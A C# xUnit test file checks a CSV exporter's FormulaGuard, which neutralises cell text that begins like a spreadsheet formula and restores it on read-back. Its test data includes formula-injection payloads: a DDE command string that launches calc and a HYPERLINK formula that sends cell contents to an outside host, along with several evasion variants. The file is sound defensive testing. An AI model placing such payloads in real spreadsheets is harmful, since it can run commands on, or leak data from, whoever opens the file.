using WasteFree.Exchange.Cli.NativeCsv;
using WasteFree.Exchange.Cli.Output;
using WasteFree.Exchange.V1;
using FormulaGuard = WasteFree.Exchange.Values.FormulaGuard;
using Xunit;

namespace WasteFree.Exchange.Cli.Tests.NativeCsv;

/// <summary>What a partner writes into a note never runs in an analyst's spreadsheet.</summary>
public sealed class FormulaTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://example.org/?\"&A1,\"看\")")]
    [InlineData("+1+cmd")]
    [InlineData("-1+cmd")]
    [InlineData("-2+3")]
    [InlineData("--5")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("\n=1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠SUM(A1)")]
    [InlineData("'=1")]
    [InlineData("''-5")]
    [InlineData("-")]
    public void A_text_that_begins_like_a_formula_gets_an_apostrophe_and_comes_back(string text)
    {
        Assert.Equal("'" + text, FormulaGuard.Protect(text));
        Assert.Equal(text, FormulaGuard.Restore(FormulaGuard.Protect(text)));
    }

    [Theory]
    [InlineData("")]
    [InlineData("-5")]
    [InlineData("+5")]
    [InlineData("-5.20")]
    [InlineData("-1e-7")]
    [InlineData("90.40")]
    [InlineData("Ya'an")]
    [InlineData("'quoted'")]
    [InlineData("a=b")]
    [InlineData("2024-Q1")]
    [InlineData("_T")]
    public void Numbers_and_harmless_texts_stay_as_they_are(string text)
    {
        Assert.Equal(text, FormulaGuard.Protect(text));
        Assert.Equal(text, FormulaGuard.Restore(text));
    }

    [Fact]
    public async Task A_file_of_such_rows_is_harmless_and_reads_back_as_it_was_sent()
    {
        var row = new Observation
        {
            Region = "500101", Indicator = "ZW21-19", Period = "2024", Value = "-5", Unit = "%", Note = "=1+1", CollectionMethod = "'@a", Evidence = "-5",
        };
        var text = new StringWriter();
        await using (var writer = new NativeWriter(text, withSource: false, withMark: false)) await writer.WriteAsync(row, TestContext.Current.CancellationToken);
        Assert.EndsWith(",-5,,,%,,,'=1+1,''@a,-5,,\n", text.ToString(), StringComparison.Ordinal);

        var (rows, faults) = await CsvFile.ReadTextAsync(text.ToString(), TestContext.Current.CancellationToken);
        Assert.Empty(faults);
        Assert.Equal(row, Assert.Single(rows).Observation);
    }
}
